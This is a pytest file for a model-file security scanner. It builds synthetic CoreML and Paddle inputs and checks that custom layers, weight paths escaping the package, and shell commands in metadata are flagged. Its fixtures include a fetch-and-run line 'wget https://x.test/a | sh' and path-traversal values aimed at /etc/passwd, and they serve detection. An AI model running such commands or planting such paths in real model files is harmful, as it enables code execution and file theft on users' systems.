from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.formats.inspecting import assert_total, inspect, kinds, mutations, notes, only
from tests.formats.writers_protobuf import blob, number
from trustaudit.filefacts import Coverage
from trustaudit.formats.coreml import inspect_coreml
from trustaudit.formats.paddle import inspect_paddle


def metadata(**user: str) -> bytes:
    entries = b"".join(blob(100, blob(1, key) + blob(2, value)) for key, value in user.items())
    return blob(2, blob(100, blob(1, "A model") + blob(3, "somebody") + entries))


def network(*layers: bytes) -> bytes:
    return blob(500, b"".join(blob(1, blob(1, f"layer{i}") + layer) for i, layer in enumerate(layers)))


def program(*files: str) -> bytes:
    consts = [blob(1, "const") + blob(5, blob(1, "val") + blob(2, blob(5, blob(1, name)))) for name in files]
    block = b"".join(blob(3, item) for item in [*consts, blob(1, "conv")])
    return blob(502, number(1, 1) + blob(2, blob(1, "main") + blob(2, blob(3, blob(1, "CoreML6") + blob(2, block)))))


def model(*parts: bytes) -> bytes:
    return number(1, 6) + b"".join(parts)


def test_an_honest_program_has_facts_only() -> None:
    user = {"com.github.apple.coremltools.version": "7.0"}
    facts = inspect(inspect_coreml, model(metadata(**user), program("@model_path/weights/weight.bin")))
    assert facts.coverage is Coverage.STRUCTURE
    assert kinds(facts) == {"coreml-metadata", "coreml-model", "coreml-blob-file"}
    assert only(facts, "coreml-blob-file").get("escape") == ""
    assert only(facts, "coreml-model").get("operations") == "const:1,conv:1"


def test_an_honest_network_counts_its_layers() -> None:
    facts = inspect(inspect_coreml, model(metadata(), network(blob(100, b"conv"), blob(120, b"pool"))))
    assert only(facts, "coreml-model").get("layers") == "2"


def test_custom_layers_models_and_links_are_told_in_pipelines_too() -> None:
    custom = model(network(blob(500, blob(10, "EvilLayer"))))
    whole = model(blob(555, blob(10, "EvilModel")))
    linked = model(blob(556, blob(1, blob(1, blob(1, "../other.mlmodelc")) + blob(2, blob(1, "./")))))
    facts = inspect(inspect_coreml, model(blob(202, blob(1, custom) + blob(1, whole) + blob(1, linked))))
    assert only(facts, "coreml-custom-layer").get("name") == "EvilLayer"
    assert only(facts, "coreml-custom-model").get("name") == "EvilModel"
    assert only(facts, "coreml-linked-model").get("escape") == "parent"


@pytest.mark.parametrize(
    ("name", "escape"), [("@model_path/../../x", "parent"), ("/etc/passwd", "absolute"), ("@model_path/w.bin", "")]
)
def test_weight_files_outside_the_package_are_classified(name: str, escape: str) -> None:
    assert only(inspect(inspect_coreml, model(program(name))), "coreml-blob-file").get("escape") == escape


def test_a_command_in_the_metadata_is_named() -> None:
    facts = inspect(inspect_coreml, model(metadata(note="wget https://x.test/a | sh")))
    assert "metadata-shell" in kinds(facts)


@pytest.mark.parametrize("data", [b"", b"\x80\x04N.", model(program("a"))[:-4], b"PK\x03\x04" + bytes(20)])
def test_what_is_no_model_is_partial(data: bytes) -> None:
    facts = inspect(inspect_coreml, data)
    assert facts.coverage is Coverage.PARTIAL
    assert kinds(facts) & {"coreml-empty", "coreml-malformed"}


@given(cut=st.integers(0, 100), patches=st.lists(st.tuples(st.integers(0, 200), st.integers(0, 255)), max_size=5))
def test_any_mutation_is_inspected_without_raising(cut: int, patches: list[tuple[int, int]]) -> None:
    assert_total(inspect_coreml, mutations(model(metadata(a="b"), program("w.bin")), cut, patches))


def operator(kind: str, **texts: str) -> bytes:
    attributes = b"".join(blob(4, blob(1, key) + number(2, 2) + blob(5, value)) for key, value in texts.items())
    stack = blob(4, blob(1, "op_callstack") + number(2, 5) + blob(8, '  File "/home/u/train.py", line 3'))
    return blob(4, blob(3, kind) + attributes + stack)


def paddle(*operators: bytes) -> bytes:
    return blob(1, number(1, 0) + b"".join(operators)) + blob(4, number(1, 0))


def test_operators_of_a_paddle_program_are_told_and_call_stacks_are_not() -> None:
    facts = inspect(inspect_paddle, paddle(operator("conv2d", data_format="NCHW"), operator("relu")))
    assert facts.coverage is Coverage.STRUCTURE
    assert {n.get("operator") for n in notes(facts, "paddle-operator")} == {"conv2d", "relu"}
    assert kinds(facts) == {"paddle-operator"}


def test_paths_given_to_paddle_operators_are_told() -> None:
    facts = inspect(inspect_paddle, paddle(operator("py_func"), operator("load", file_path="/etc/passwd")))
    assert only(facts, "paddle-operator-argument").get("value") == "/etc/passwd"
    assert {n.get("operator") for n in notes(facts, "paddle-operator")} == {"py_func", "load"}


@pytest.mark.parametrize("data", [b"", b"\x80\x04N.", paddle(operator("relu"))[:-9]])
def test_what_is_no_paddle_program_is_partial(data: bytes) -> None:
    facts = inspect(inspect_paddle, data)
    assert facts.coverage is Coverage.PARTIAL


@given(cut=st.integers(0, 100), patches=st.lists(st.tuples(st.integers(0, 200), st.integers(0, 255)), max_size=5))
def test_any_mutated_paddle_program_is_inspected_without_raising(cut: int, patches: list[tuple[int, int]]) -> None:
    assert_total(inspect_paddle, mutations(paddle(operator("load", file_path="/x")), cut, patches))
